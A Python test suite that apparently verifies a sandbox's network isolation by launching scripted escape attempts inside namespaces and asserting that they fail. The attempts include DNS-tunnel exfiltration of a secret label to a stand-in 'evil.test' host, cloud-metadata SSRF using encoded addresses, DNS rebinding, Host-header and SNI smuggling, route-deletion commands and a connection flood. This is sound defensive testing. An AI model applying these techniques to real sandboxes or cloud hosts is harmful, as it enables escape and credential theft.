#!/usr/bin/env python3
"""Group N where a sandbox has a way out: whatever it tries, it is let out by a name that its policy has, to an address that
is the world's, or not at all. (Sandboxes without one: proc.t.)

All of it, coves and servers, lives in a network namespace of its own: there the metadata address exists, and the server of
names is ours. A veth pair joins it to a second namespace, which has the neighbour and the router; nothing leaves the two."""
import contextlib
import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading

if os.environ.get("COVE_NET_APART") != "1":
    os.environ["COVE_NET_APART"] = "1"
    os.execvp("unshare", ["unshare", "-n", "-m", sys.executable] + sys.argv)

from rows import c, LO_UP, play, row  # noqa: E402
from outside import ledger  # noqa: E402

METADATA, LAN, REAL, EVIL, RESOLVER = "169.254.169.254", "10.20.30.40", "192.0.2.10", "192.0.2.66", "192.0.2.53"
METADATA6 = "fd00:ec2::254"
# Special purpose, global by the registry (AS112): a link between namespaces of this test, and a server behind its router.
NEAR, NEAR6, FAR, AZURE = "192.31.196.2", "2620:4f:8000::2", "192.175.48.6", "168.63.129.16"
ALLOWED = {"mode": "allow", "allow": ["allowed.test", "meta.test", "meta6.test", "lan.test", "local.test", "flip.test", "both.test",
                                        "near.test", "near6.test", "far.test", "azure.test"]}
ALL = {"mode": "all"}


# ------------------------------------------------------------------------------------------- the world

class Server:
    """Answers whatever it is sent with one line over HTTP, and keeps what came."""

    def __init__(self, address, port, kind=socket.SOCK_STREAM):
        self.got, self.count = [], 0
        self.sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((address, port))
        self.words = ("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\nREACHED %s\n" % (len(address) + 9, address)).encode()
        if kind == socket.SOCK_STREAM:
            self.sock.listen(64)
        threading.Thread(target=self.accept if kind == socket.SOCK_STREAM else self.receive, daemon=True).start()

    def accept(self):
        while True:
            conn, _ = self.sock.accept()
            self.count += 1
            threading.Thread(target=self.serve, args=(conn,), daemon=True).start()

    def serve(self, conn):
        with contextlib.suppress(OSError):
            conn.settimeout(20)
            kept = True
            while kept:
                data = conn.recv(4096)
                if not data:
                    break
                kept = data.startswith(b"GET ") and b"Connection: close" not in data
                self.got.append(data)
                conn.sendall(self.words)
            conn.shutdown(socket.SHUT_WR)
            while conn.recv(4096):
                pass
        conn.close()

    def receive(self):
        while True:
            data, where = self.sock.recvfrom(2048)
            self.count += 1
            self.got.append(data)
            answer = self.answer(data)
            if answer:
                self.sock.sendto(answer, where)

    def answer(self, _):
        return None


class Names(Server):
    """A server of names: what it says changes from one question to the next."""
    turns = {"flip.test": [[REAL], [METADATA], ["127.0.0.1"]], "both.test": [[METADATA, REAL, "10.0.0.1"]]}

    def answer(self, data):
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1:at + 1 + data[at]].decode())
            at += 1 + data[at]
        kind, = struct.unpack(">H", data[at + 1:at + 3])
        turns = self.turns.get(".".join(labels))
        given = turns[0] if turns and kind == 1 else []
        if kind == 1 and turns and len(turns) > 1:
            turns.append(turns.pop(0))
        head = data[:2] + struct.pack(">HHHHH", 0x8180 if turns else 0x8183, 1, len(given), 0, 0)
        return head + data[12:at + 5] + b"".join(struct.pack(">HHHIH", 0xC00C, 1, 1, 0, 4) + socket.inet_aton(a) for a in given)


def ip(*words):
    subprocess.run(["ip", *words], check=True)


def build_link():
    """A veth pair to a namespace of its own, whose process serves port 80 of the neighbour, of a host behind it, and of the
    address where Azure's host agent lives."""
    made, moved, ready = os.pipe(), os.pipe(), os.pipe()
    child = os.fork()
    if child == 0:
        libc = ctypes.CDLL(None)
        libc.prctl(1, 9, 0, 0, 0)  # PR_SET_PDEATHSIG, SIGKILL
        libc.unshare(0x40000000)  # CLONE_NEWNET
        os.write(made[1], b"x")
        os.read(moved[0], 1)
        subprocess.run([sys.executable, "-c", LO_UP], check=True)
        ip("link", "set", "v1", "up")
        for address in (NEAR + "/24", FAR + "/32", AZURE + "/32"):
            ip("addr", "add", address, "dev", "v1")
        ip("-6", "addr", "add", NEAR6 + "/64", "dev", "v1", "nodad")
        kept = [Server(address, 80) for address in (NEAR, NEAR6, FAR, AZURE)]
        os.write(ready[1], b"x")
        threading.Event().wait()
        os._exit(len(kept))
    os.read(made[0], 1)
    ip("link", "add", "v0", "type", "veth", "peer", "name", "v1", "netns", str(child))
    ip("link", "set", "v0", "up")
    ip("addr", "add", "192.31.196.1/24", "dev", "v0")
    ip("-6", "addr", "add", "2620:4f:8000::1/64", "dev", "v0", "nodad")
    os.write(moved[1], b"x")
    os.read(ready[0], 1)
    ip("route", "add", "default", "via", NEAR)


def build_world():
    subprocess.run([sys.executable, "-c", LO_UP], check=True)
    for address in [a + "/32" for a in (METADATA, LAN, REAL, EVIL, RESOLVER)] + [METADATA6 + "/128"]:
        subprocess.run(["ip", "addr", "add", address, "dev", "lo"], check=True)
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)
    if os.path.exists("/etc/resolv.conf"):  # without one the server of names is at 127.0.0.1
        path = "/tmp/cove-resolv-%d" % os.getpid()
        with open(path, "w") as file:
            file.write("nameserver %s\noptions timeout:1 attempts:1\n" % RESOLVER)
        subprocess.run(["mount", "--bind", path, os.path.realpath("/etc/resolv.conf")], check=True)
        os.unlink(path)
    os.environ["COVE_EGRESS_HOSTS"] = ("allowed.test=%s,blocked.test=%s,meta.test=%s,meta6.test=%s,lan.test=%s,local.test=127.0.0.1,"
                                       "six.test=::1,near.test=%s,near6.test=%s,far.test=%s,azure.test=%s"
                                       % (REAL, REAL, METADATA, METADATA6, LAN, NEAR, NEAR6, FAR, AZURE))
    os.environ["COVE_EGRESS_EXCEPTIONS"] = REAL + "," + EVIL
    build_link()
    world = {}
    for address in (REAL, EVIL, METADATA, METADATA6, LAN, "127.0.0.1"):
        for port in (80, 443, 853, 22):
            world[address, port] = Server(address, port)
    for port in (53, 443):
        world[REAL, port, "udp"] = Server(REAL, port, socket.SOCK_DGRAM)
    for address in (RESOLVER, "127.0.0.1"):
        world["names", address] = Names(address, 53, socket.SOCK_DGRAM)
    return world


def reached(*addresses):
    """How often anybody was, of all servers or of those at the addresses."""
    return sum(server.count for key, server in WORLD.items() if key[0] != "names" and (not addresses or key[0] in addresses))


# ---------------------------------------------------------------------------------------------- attacks

# (family, address, port, bytes to send) of each try; what came back, or the error.
TRY = r'''
import socket, struct, sys
def hello(name=None, ech=False):
    ext = b""
    if name:
        n = name.encode()
        ext += struct.pack(">HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    if ech: ext += struct.pack(">HH", 0xfe0d, 16) + b"\0\0\1\0\1\0\0\0\0\0\4abcd\0"[:16].ljust(16, b"\0")
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    body = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(body)) + body
def get(host): return b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode()
for address, port, data in TRIES:
    try:
        s = socket.create_connection((address, port), timeout=15)
        s.sendall(data)
        got = b""
        while len(got) < 4096:
            more = s.recv(4096)
            if not more: break
            got += more
        word = "REACHED" if b"REACHED" in got else "alert" if got[:1] == b"\x15" else got.split(b" ")[1].decode() if got[:4] == b"HTTP" else "closed"
    except OSError as e:
        word = type(e).__name__
    print(word)
'''


def tries(stage, network, *what):
    """One word for each: REACHED, or how it ended. The tries are expressions."""
    program = TRY.replace("TRIES", "(" + "".join("(%s),\n" % t for t in what) + ")")
    return stage.python(stage.box(network=network), program)["stdout"].split()


def none_reached(words):
    return words and "REACHED" not in words


@row("N-01", "a name that the policy does not have is not reached, by whatever protocol")
def blocked(stage):
    what = ("'203.0.113.6', 80, get('blocked.test')", "'203.0.113.6', 443, hello('blocked.test')", "'%s', 22, b'SSH-2.0-x\\r\\n'" % REAL,
            "'203.0.113.6', 80, b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: blocked.test\\r\\n\\r\\n'",
            "'203.0.113.6', 80, b'GET http://blocked.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'",
            "'2001:db8::6', 443, hello('blocked.test')", "'2001:db8::6', 80, get('blocked.test')")
    stage.control_weak("judge", lambda stage: tries(stage, ALLOWED, *what[:3]), lambda words: words == ["REACHED"] * 3)
    before = reached()
    words = tries(stage, ALLOWED, *what)
    c.ok(words[:2] == ["403", "alert"] and none_reached(words) and words[3:] == ["400", "400", "alert", "403"], "N-01: each is told no in its own tongue", words)
    c.same(reached(), before, "N-01: and nobody was connected to")
    names = stage.cove.run(stage.box(network=ALLOWED), "getent ahosts blocked.test; echo $?; getent ahosts allowed.test | wc -l")
    c.ok(names["stdout"].startswith("2\n") and names["stdout"] != "2\n0\n", "N-01: the name does not exist there", names)


@row("N-02", "an allowed name leads to its own server, whatever address the box chose, and a Host decides for itself")
def fronting(stage):
    what = ("'%s', 80, get('allowed.test')" % EVIL, "'%s', 443, hello('allowed.test')" % EVIL, "'2001:db8::1', 443, hello('allowed.test')")
    stage.twin(tries(stage, {"mode": "allow", "allow": [EVIL]}, "'%s', 80, get('%s')" % (EVIL, EVIL)) == ["REACHED"],
               "the attacker's server answers who may go there")
    before, real = reached(EVIL), reached(REAL)
    words = tries(stage, ALLOWED, *what)
    c.ok(words == ["REACHED"] * 3 and reached(EVIL) == before and reached(REAL) == real + 3, "N-02: the real one was", words)
    kept = r'''
import socket
s = socket.create_connection((socket.gethostbyname("allowed.test"), 80), timeout=15)
s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: blocked.test\r\n\r\n")
got = b""
while True:
    more = s.recv(4096)
    if not more: break
    got += more
print(got.count(b"REACHED"))
'''
    before = reached()
    c.same(stage.python(stage.box(network=ALLOWED), kept)["stdout"], "1\n", "N-02: on one connection the second Host is judged too")
    c.same(reached(), before + 1, "N-02: and its server was not asked")


@row("N-04", "TLS without a name, with a hidden one, garbage and SSH to a bare address are denied before anybody is connected to")
def nameless(stage):
    what = ["'%s', 443, hello()" % REAL, "'%s', 443, hello('allowed.test', ech=True)" % REAL, "'%s', 22, b'SSH-2.0-x\\r\\n'" % REAL,
            "'%s', 443, bytes(range(256))" % REAL, "'%s', 80, b'\\0'" % REAL, "'%s', 443, b'\\x16\\3\\1\\0\\5\\1\\0\\0\\1\\0'" % REAL,
            "'%s', 443, hello('%s')" % (REAL, REAL), "'%s', 443, hello('allowed.test\\0.evil.test')" % REAL]
    stage.control_weak("judge", lambda stage: tries(stage, ALLOWED, *what[:5]), lambda words: words == ["REACHED"] * 5)
    before = reached()
    words = tries(stage, ALLOWED, *what)
    c.ok(len(words) == len(what) and none_reached(words) and words[:2] == ["alert", "alert"], "N-04: every one", words)
    c.same(reached(), before, "N-04: nobody was connected to")


UDP = r'''
import socket, time
for family, address, port in ((2, %r, 443), (2, "203.0.113.1", 443), (2, "203.0.113.1", 5353), (10, "2001:db8::1", 443)):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(30)
    begin = time.monotonic()
    try:
        s.connect((address, port)); s.send(b"initial"); s.recv(10); word = "answer"
    except ConnectionRefusedError: word = "refused"
    except OSError as e: word = type(e).__name__
    print(word if time.monotonic() - begin < 25 else "late")
''' % REAL


@row("N-06", "UDP has no listener: refused at once, and nothing leaves")
def quic(stage):
    udp = WORLD[REAL, 443, "udp"]

    def attack(stage):
        before = udp.count
        words = stage.python(stage.box(network=ALL), UDP)["stdout"].split()
        c.until(lambda: udp.count != before, 0.3)
        return udp.count - before, words
    stage.control_weak("netns", attack, lambda got: got[0] == 1)
    c.same(attack(stage), (0, ["refused"] * 4), "N-06: IPv4 and IPv6, in mode all")


DNS = r'''
import socket, struct
def ask(name, kind, server, tcp=False):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(2, 1 if tcp else 2)
    s.settimeout(3)
    try:
        s.connect((server, 53))
        s.sendall(struct.pack(">H", len(q)) + q if tcp else q)
        r = s.recv(2048)[2 if tcp else 0:]
    except OSError as e: return type(e).__name__
    return "%d/%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
for q in QUESTIONS: print(ask(*q))
'''


@row("N-08", "whatever resolver is asked, the stub answers, and no label leaves the host")
def resolvers(stage):
    asked, names = WORLD[REAL, 53, "udp"], WORLD["names", RESOLVER]
    secret = "k%d.tunnel" % os.getpid()
    tunnel = "(('%s.evil.test', 16, '%s'), ('%s.allowed.test', 1, '%s'))" % (secret, REAL, secret, RESOLVER)

    def leak(stage):
        before = asked.count + names.count
        stage.python(stage.box(network=ALLOWED), DNS.replace("QUESTIONS", tunnel))
        c.until(lambda: asked.count + names.count > before, 0.5)
        return asked.count + names.count - before
    stage.control_weak("netns", leak, lambda count: count >= 2)
    c.same(leak(stage), 0, "N-08: a label in a question to a resolver of the box's choice goes nowhere")
    questions = "(('allowed.test', 1, '203.0.113.8'), ('blocked.test', 1, '203.0.113.8'), ('allowed.test', 28, '8.8.8.8'), ('allowed.test', 65, '1.1.1.1'), " \
                "('blocked.test', 1, '9.9.9.9', True), ('allowed.test', 1, '9.9.9.9', True))"
    words = stage.python(stage.box(network=ALLOWED), DNS.replace("QUESTIONS", questions))["stdout"].split()
    c.same(words, ["0/1", "3/0", "0/1", "0/0", "3/0", "0/1"], "N-08: hard-coded resolvers are the stub, over UDP and TCP; no HTTPS record")
    words = tries(stage, ALLOWED, "'%s', 853, hello()" % REAL, "'%s', 443, hello()" % REAL, "'%s', 853, hello('allowed.test')" % REAL)
    c.ok(none_reached(words), "N-08: DNS over TLS or HTTPS by address is denied", words)


@row("N-10", "metadata and private addresses are not connected to, whatever name leads there, in every mode")
def metadata(stage):
    what = ("'203.0.113.1', 80, get('meta.test')", "'203.0.113.1', 80, get('meta6.test')", "'203.0.113.1', 443, hello('lan.test')")
    literal = ("'%s', 80, get('%s')" % (METADATA, METADATA), "'%s', 80, get('[%s]')" % (METADATA6, METADATA6), "'%s', 80, get('%s')" % (LAN, LAN),
               "'::ffff:%s', 80, get('%s')" % (METADATA, METADATA), "'%s', 80, get('meta.test')" % METADATA,
               "'203.0.113.1', 80, get('[::ffff:a9fe:a9fe]')", "'203.0.113.1', 80, get('0xa9fea9fe')", "'203.0.113.1', 80, get('2852039166')")
    stage.control_weak("outbound", lambda stage: tries(stage, ALLOWED, *what) + tries(stage, ALL, *literal[:3]), lambda words: words == ["REACHED"] * 6)
    before = reached(METADATA, METADATA6, LAN)
    words = tries(stage, ALLOWED, *what)
    c.same(words, ["403", "403", "alert"], "N-10: allowed names that lead there")
    words = tries(stage, ALL, *(what + literal))
    c.ok(len(words) == 11 and none_reached(words), "N-10: nor by any spelling of the address, in mode all", words)
    c.same(reached(METADATA, METADATA6, LAN), before, "N-10: nobody was connected to")


@row("N-13", "a neighbour on the host's link is not reached, whatever its address; a host behind the router is")
def neighbour(stage):
    what = ["'203.0.113.1', 80, get('near.test')", "'203.0.113.1', 80, get('near6.test')"]
    literal = ["'%s', 80, get('%s')" % (NEAR, NEAR), "'%s', 80, get('[%s]')" % (NEAR6, NEAR6)]
    azure = ["'203.0.113.1', 80, get('azure.test')"]
    stage.control_weak("neighbours", lambda stage: tries(stage, ALLOWED, *what) + tries(stage, ALL, *literal),
                       lambda words: words == ["REACHED"] * 4)
    stage.control_weak("outbound", lambda stage: tries(stage, ALLOWED, *azure), lambda words: words == ["REACHED"])
    words = tries(stage, ALLOWED, *what, *azure) + tries(stage, ALL, *literal)
    c.same(words, ["403"] * 5, "N-13: by name and by address, IPv4 and IPv6, and Azure's host agent behind a router")
    c.same(tries(stage, ALLOWED, "'203.0.113.1', 80, get('far.test')"), ["REACHED"], "N-13: a host behind the router is reached")


@row("N-11", "a name whose address changes between two questions gains nothing by it")
def rebinding(stage):
    stage.twin(tries(stage, ALLOWED, "'203.0.113.1', 80, get('both.test')") == ["REACHED"], "of several addresses the one that is allowed is used")
    before = reached(METADATA, "127.0.0.1", LAN)
    words = tries(stage, ALLOWED, *["'203.0.113.1', 80, get('flip.test')", "'203.0.113.1', 443, hello('flip.test')"] * 6)
    c.ok(set(words) <= {"REACHED", "403", "alert"} and len(words) == 12, "N-11: it is the checked one, or none", words)
    c.same(reached(METADATA, "127.0.0.1", LAN), before, "N-11: the others were never connected to")


@row("N-12", "services of the host and cove's own API are out of reach of a box with a network")
def host_services(stage):
    def attack(stage):
        port = stage.cove.port
        box = stage.box(network={"mode": "allow", "allow": ["local.test:%d" % port, "six.test:%d" % port]})
        program = TRY.replace("TRIES", "(('203.0.113.1', %d, b'GET /v1/health HTTP/1.1\\r\\nHost: local.test\\r\\nConnection: close\\r\\n\\r\\n'),)" % port)
        return stage.python(box, program)["stdout"].split()
    # The API refuses the foreign host name, by 421: it was reached.
    stage.control_weak("outbound", attack, lambda words: words and words[0] in ("200", "421", "400"))
    c.same(attack(stage), ["403"], "N-12: a name that leads to the API is refused")
    addresses = ["127.0.0.1", "::1", "0.0.0.0", "::", LAN, "10.0.2.15", "127.99.0.7", "::ffff:127.0.0.1"]
    before = reached("127.0.0.1", LAN)
    words = tries(stage, ALL, *["%r, %d, get('x.test')" % (a, stage.cove.port) for a in addresses] + ["%r, 80, get(%r)" % (a, a) for a in addresses])
    c.ok(len(words) == 16 and none_reached(words) and "200" not in words, "N-12: nor by any address, in mode all", words)
    c.same(reached("127.0.0.1", LAN), before, "N-12: nobody was connected to")
    c.same(stage.python(stage.box(network=ALL), "import socket\ntry:\n    socket.socket(40, 1)\n    print('made')\nexcept OSError: print('refused')\n")["stdout"],
           "refused\n", "N-12: no vsock to the host either")


@row("N-14", "routes, addresses and filters of a box with a network are not the box's to change")
def routes(stage):
    def attack(stage):
        return stage.cove.out(stage.box(network=ALL), "ip route del local 0.0.0.0/0 dev lo table local && echo removed; ip addr add 10.9.9.9/32 dev lo && echo added; "
                                                      "ip link set lo down && echo down; true")
    stage.control_weak("seccomp,capabilities,userns", attack, lambda done: "removed\n" in done and "down\n" in done)
    c.same(attack(stage), "", "N-14: every change is refused")


FLOOD = r'''
import socket, time
held = []
for n in range(%d):
    s = socket.socket(); s.setblocking(False)
    s.connect_ex(("203.0.113.%%d" %% (n %% 250 + 1), 80))
    held.append(s)
time.sleep(60)
'''


@row("N-16", "a flood of connections that say nothing has a bound, and does not hold up another box")
def flood(stage):
    many = 1600  # more than are open at once, fewer than wait

    def attack(stage):
        box = stage.box(network=ALL)
        stage.cove.run(box, "cat > flood.py", stdin=FLOOD % many)
        stage.cove.post("/v1/sandboxes/%s/api/process/start" % box["id"], {"command": "ulimit -n 4096; python3 flood.py"})
        # Those beyond the bound are refused after 5 s of waiting, those within it are cut off after 10 s of silence.
        most = [0]

        def over():
            rows, totals = ledger(stage.cove, box)[:2]
            most[0] = max(most[0], totals["open"])
            return rows
        return c.until(over, 60, 0.2)[0]["reason"], most[0]
    stage.control_weak("crowd", attack, lambda seen: seen[0] == "silent")
    reason, most = attack(stage)  # a slow host does not come to the bound in time
    c.ok(most <= 1024 and (reason == "open_connections" or most < 1024), "N-16: no more than 1,024 are open", reason, most)
    c.same(tries(stage, ALLOWED, "'203.0.113.1', 80, get('allowed.test')"), ["REACHED"], "N-16: another box is let out meanwhile")


@row("N-18", "boxes with networks do not share one: the same addresses lead each to itself")
def between(stage):
    server = ("import socket, time\nt = socket.socket(); t.setsockopt(1, 2, 1); t.bind(('0.0.0.0', 9000)); t.listen()\n"
              "u = socket.socket(socket.AF_UNIX); u.bind('\\0network-abs'); u.listen()\nopen('/workspace/up', 'w').close(); time.sleep(60)\n")
    client = ("import socket\n"
              "for family, to in ((2, ('127.0.0.1', 9000)), (2, ('10.0.2.15', 9000)), (1, '\\0network-abs')):\n"
              "    s = socket.socket(family); s.settimeout(5)\n"
              "    try:\n        s.connect(to); s.settimeout(1.5)\n"
              "        try: print('REACHED' if s.recv(1) else 'ended')\n        except TimeoutError: print('REACHED')\n"
              "    except OSError: print('refused')\n")

    def attack(stage):
        a, b = stage.box(network=ALL), stage.box(network=ALL)
        stage.cove.run(a, "cat > server.py", stdin=server)
        stage.cove.post("/v1/sandboxes/%s/api/process/start" % a["id"], {"command": "python3 server.py"})
        c.until(lambda: stage.cove.out(a, "ls up 2>/dev/null"))
        return stage.python(a, client)["stdout"].split(), stage.python(b, client)["stdout"].split()
    stage.control_weak("netns", attack, lambda got: got[1][0] == got[1][2] == "REACHED")
    own, other = attack(stage)
    c.same((own[0], own[2]), ("REACHED", "REACHED"), "N-18: within a box they work")
    c.ok("REACHED" not in other and len(other) == 3, "N-18: from another box none does", other)


@row("N-20", "a budget counts requests on one connection as on many")
def budgets(stage):
    program = r'''
import socket
where, good = socket.gethostbyname("allowed.test"), {}
for kept in (True, False):
    s, n = None, 0
    for _ in range(30):
        s = s or socket.create_connection((where, 80), timeout=15)
        try:
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n%s\r\n" % (b"" if kept else b"Connection: close\r\n"))
            got, more = b"", b"x"
            while more and not (b"REACHED" in got and got.endswith(b"\n")):
                more = s.recv(4096)
                got += more
        except OSError: pass
        n += got.startswith(b"HTTP/1.1 200"); last = got.split(b"\r\n")[0]
        if not kept or b" 200 " not in got[:20]: s.close(); s = None
    print(n, last.decode())
'''

    def attack(stage, **budgets):
        return stage.python(stage.box(network=dict(ALLOWED, budgets=budgets)), program)["stdout"].split("\n")
    stage.twin(attack(stage, perSecond=1000)[:2] == ["30 HTTP/1.1 200 OK"] * 2, "without a budget all pass")
    before = len(WORLD[REAL, 80].got)
    got = attack(stage, requests=40, perSecond=1000)
    c.ok(got[0].startswith("30 ") and got[1].startswith("10 HTTP/1.1 429"), "N-20: the 41st is 429", got)
    c.same(len(WORLD[REAL, 80].got) - before, 40, "N-20: and 40 arrived")


def warm(cove):
    """The daemon keeps a few pipes that connections have been poured through, and each warden its stock."""
    box = cove.create(network=ALLOWED)
    program = TRY.replace("TRIES", "(('203.0.113.1', 443, hello('allowed.test')),) * 2")
    threads = [threading.Thread(target=lambda: cove.run(box, ["python3", "-I", "-"], stdin=program)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    cove.delete(box)


WORLD = build_world()
play(warm=warm)
